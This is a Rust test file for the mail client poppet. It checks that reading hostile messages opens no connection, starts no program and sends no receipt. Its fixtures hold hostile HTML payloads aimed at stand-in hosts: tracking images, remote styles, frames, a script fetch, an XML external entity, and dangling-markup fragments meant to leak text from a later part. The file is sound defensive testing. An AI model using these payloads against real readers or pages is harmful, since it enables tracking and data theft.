//! V20, V27: reading mail opens no connection and starts no other program, whatever the mail asks for.

use std::path::Path;

use poppet::demo::{Maildrop, Message};
use poppet::mail::{Local, MessageId, View};
use poppet::mime::{self, RenderOptions};

use crate::pty::Pty;
use crate::served::Served;
use crate::shim::{recorded, shim, watch};
use crate::support::home::{Home, id};
use crate::support::run::Running;
use crate::support::score::{score, stride};

/// Pages that a browser would load something for.
const PAGES: &[(&str, &str)] = &[
    (
        "images",
        "<img src=http://IP/1.png><img src=\"https://evil.example/2.png\" width=1><img src=//IP/3><img srcset='http://IP/4 2x'><image href=http://IP/5>",
    ),
    (
        "styles",
        "<link rel=stylesheet href=http://IP/a.css><style>@import url(http://IP/b.css); body{background:url(http://IP/c)} @font-face{src:url(http://IP/d)}</style>",
    ),
    (
        "inline styles",
        "<div style=\"background-image:url('http://IP/a')\"><table background=http://IP/b><td background=http://IP/c>x</table>",
    ),
    (
        "frames",
        "<iframe src=http://IP/a></iframe><frameset><frame src=http://IP/b></frameset><object data=http://IP/c></object><embed src=http://IP/d><applet code=http://IP/e>",
    ),
    (
        "prefetching",
        "<link rel=prefetch href=http://IP/a><link rel=dns-prefetch href=//evil.example><link rel=preconnect href=http://IP><link rel=preload href=http://IP/b as=image>",
    ),
    (
        "refreshing",
        "<meta http-equiv=refresh content='0;url=http://IP/a'><base href=http://IP/><a href=b ping=http://IP/c>b</a>",
    ),
    (
        "forms",
        "<form action=http://IP/a method=post><input type=image src=http://IP/b><button formaction=http://IP/c>x</button></form><script>fetch('http://IP/d')</script>",
    ),
    (
        "media",
        "<video src=http://IP/a poster=http://IP/b autoplay></video><audio src=http://IP/c autoplay><source src=http://IP/d><track src=http://IP/e>",
    ),
    (
        "svg",
        "<svg><image href=http://IP/a /><use href=http://IP/b#c /><script href=http://IP/d /></svg><math href=http://IP/e>x</math>",
    ),
    (
        "entities",
        "<!DOCTYPE x [<!ENTITY a SYSTEM 'http://IP/a'>]><p>&a;<?xml-stylesheet href='http://IP/b'?>",
    ),
];

#[test]
fn v20_v27_reading_the_hostile_corpus_opens_no_connection_and_starts_no_program() {
    let Some(shim) = shim() else { return };
    let server = Served::mailbox(corpus());
    let home = Home::with_accounts(&[server.account()]);
    home.poppet(["sync"]).expect_code(0);
    let rows = home.list("");
    let record = home.path().join("record");
    let mut lines = vec![
        "list".to_owned(),
        "list --json".to_owned(),
        "list engine".to_owned(),
        "pending".to_owned(),
        "export --eml out".to_owned(),
    ];
    for row in rows.iter().step_by(stride(3)) {
        for more in ["", " --html", " --headers", " --json", " --raw"] {
            lines.push(format!("show {}{more}", id(row)));
        }
        lines.push(format!("peek {}", id(row)));
        lines.push(format!("attachments {}", id(row)));
        lines.push(format!("attachments {} --save saved", id(row)));
    }
    let mut passed = 0;
    for line in &lines {
        let mut command = home.command(line.split(' '));
        watch(&mut command, shim, &record);
        let run = Running::start(command, "").end();
        let asked = recorded(&record);
        let _ = std::fs::remove_file(&record);
        // Nothing to save is an error of the command line.
        let well =
            matches!(run.code, Some(0 | 1)) || (line.contains("--save") && run.code == Some(2));
        if asked.is_empty() && well {
            passed += 1;
        } else {
            println!("{line}: {asked:?}\n{run}");
        }
    }
    score(
        "no network while reading, commands",
        passed,
        lines.len(),
        "-",
    );
}

#[test]
fn v20_v27_the_reader_connects_to_the_mail_server_alone() {
    let Some(shim) = shim() else { return };
    let server = Served::mailbox(corpus());
    let home = Home::with_accounts(&[server.account()]);
    home.poppet(["sync"]).expect_code(0);
    let count = home.list("").len();
    let record = home.path().join("record");
    let mut command = home.command(Vec::<&str>::new());
    watch(&mut command, shim, &record);
    let mut reader = Pty::start(&command, 120, 50);
    reader.wait_for("the last of the corpus");
    reader.keys("\r");
    for n in 0..count {
        for keys in ["vh", "vs", "vt"] {
            let before = reader.octets().len();
            reader.keys(keys);
            // Every view is drawn before the next is asked for.
            reader.wait_until("a frame", |_| {
                reader.octets().len() > before || keys == "vt"
            });
        }
        if n + 1 < count {
            let before = reader.octets().len();
            reader.keys("J");
            reader.wait_until("the next message", |_| reader.octets().len() > before);
        }
    }
    reader.keys("q");
    reader.wait_for("Subject");
    drop(reader);
    let port = server.port();
    let asked = recorded(&record);
    let own = format!("connect 127.0.0.1:{port}");
    let others: Vec<_> = asked
        .iter()
        .filter(|line| {
            **line != own
                && *line != "resolve localhost"
                && !line.starts_with("run printf")
                && !line.starts_with("connect [::1]")
        })
        .collect();
    assert!(others.is_empty(), "{others:?}");
    assert!(asked.contains(&own), "the record works: {asked:?}");
    score("no network while reading, reader", count, count, "-");
}

#[test]
fn v20_v27_the_record_hears_a_connection_and_a_program() {
    let Some(shim) = shim() else { return };
    let server = Served::mailbox(corpus());
    let home = Home::with_accounts(&[server.account()]);
    let record = home.path().join("record");
    let mut command = home.command(["check"]);
    watch(&mut command, shim, &record);
    Running::start(command, "").end();
    let asked = recorded(&record);
    let port = server.port();
    assert!(
        asked.contains(&format!("connect 127.0.0.1:{port}")),
        "{asked:?}"
    );
    assert!(asked.contains(&"resolve localhost".to_owned()), "{asked:?}");
    assert!(
        asked
            .iter()
            .any(|line| line.starts_with("run ") && line.contains("printf")),
        "{asked:?}"
    );
}

#[test]
fn v27_no_receipt_is_sent_for_a_message_that_asks_for_one() {
    let message = "From: a@x.example\r\nDisposition-Notification-To: a@x.example\r\nReturn-Receipt-To: a@x.example\r\n\
                   X-Confirm-Reading-To: a@x.example\r\nSubject: read me\r\n\r\nread me\r\n";
    let server = Served::mailbox(Maildrop::new(vec![Message::new(message)]));
    let home = Home::with_accounts(&[server.account()]);
    home.poppet(["sync"]).expect_code(0);
    let before = server.maildrop().commands().len();
    let row = home.list("").remove(0);
    home.poppet(["show", &id(&row)]).expect_code(0);
    assert_eq!(server.maildrop().commands().len(), before);
}

#[test]
fn v27_a_part_does_not_reach_into_the_one_behind_it() {
    let page = |first: &str, second: &str| {
        format!(
            "Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: multipart/alternative; boundary=c\r\n\r\n--c\r\n\
             Content-Type: multipart/mixed; boundary=d\r\n\r\n--d\r\nContent-Type: text/html\r\n\r\n{first}\r\n--d\r\nContent-Type: text/html\r\n\r\n{second}\r\n--d--\r\n--c--\r\n\
             --b\r\nContent-Type: text/html\r\n\r\n{second}\r\n--b--\r\n"
        )
    };
    for first in [
        "<p>open</p><a href=\"https://evil.example/?",
        "<p>open</p><img src='https://evil.example/?",
        "<p>open</p><!-- ",
        "<p>open</p><div style='display:none'>",
        "<p>open</p><style>",
        "<style>p { display: none }</style><p class=x>open</p><div>open</div>",
    ] {
        let octets = page(first, "<p>the secret words</p>\">'>");
        let options = RenderOptions {
            view: View::Html,
            width: 80,
        };
        let body = mime::render(MessageId(1), octets.as_bytes(), Local::Full, options);
        let text: Vec<String> = body
            .lines
            .iter()
            .map(|line| line.spans.iter().map(|span| span.text.as_str()).collect())
            .collect();
        let text = text.join("\n");
        assert_eq!(
            text.matches("the secret words").count(),
            2,
            "{first}: {text}"
        );
        assert!(text.contains("open"), "{first}: {text}");
        assert!(
            body.links
                .iter()
                .all(|link| !link.target.contains("secret")),
            "{:?}",
            body.links
        );
        let extract = mime::extract(octets.as_bytes(), Local::Full);
        assert_eq!(
            extract.text.matches("the secret words").count(),
            2,
            "{first}: {}",
            extract.text
        );
    }
}

/// Every message of `tests/mail`, and those made to be loaded for.
fn corpus() -> Maildrop {
    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/mail");
    let mut files: Vec<_> = std::fs::read_dir(folder)
        .unwrap()
        .map(|entry| entry.unwrap().path())
        .collect();
    files.sort();
    let mut messages: Vec<Message> = files
        .iter()
        .filter(|file| file.extension().is_some_and(|ending| ending == "eml"))
        .map(|file| Message::new(std::fs::read(file).unwrap()))
        .collect();
    for (name, page) in PAGES {
        let page = page.replace("IP", "192.0.2.1");
        messages.push(Message::new(format!(
            "From: a@x.example\r\nTo: sam@example.net\r\nSubject: {name}\r\nDate: Mon, 23 Nov 2026 10:00:00 +0000\r\n\
             Message-ID: <{name}@x.example>\r\nDisposition-Notification-To: <a@x.example>\r\nReturn-Receipt-To: a@x.example\r\n\
             List-Unsubscribe: <http://192.0.2.1/u>\r\nList-Unsubscribe-Post: List-Unsubscribe=One-Click\r\nX-Face: http://192.0.2.1/f\r\n\
             Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/html; charset=utf-8\r\n\
             Content-Location: http://192.0.2.1/\r\n\r\n<p>words {page}\r\n--b\r\nContent-Type: message/external-body; access-type=URL; URL=\"http://192.0.2.1/e\"\r\n\r\n\
             Content-Type: text/plain\r\n\r\n--b\r\nContent-Type: application/pdf; name=a.pdf\r\nContent-Disposition: attachment\r\n\r\n%PDF-1.4 /URI(http://192.0.2.1/p)\r\n--b--\r\n"
        )));
    }
    messages.push(Message::new(
        "From: z@x.example\r\nSubject: the last of the corpus\r\nDate: Mon, 23 Nov 2026 11:00:00 +0000\r\n\r\nthe engine\r\n",
    ));
    Maildrop::new(messages)
}
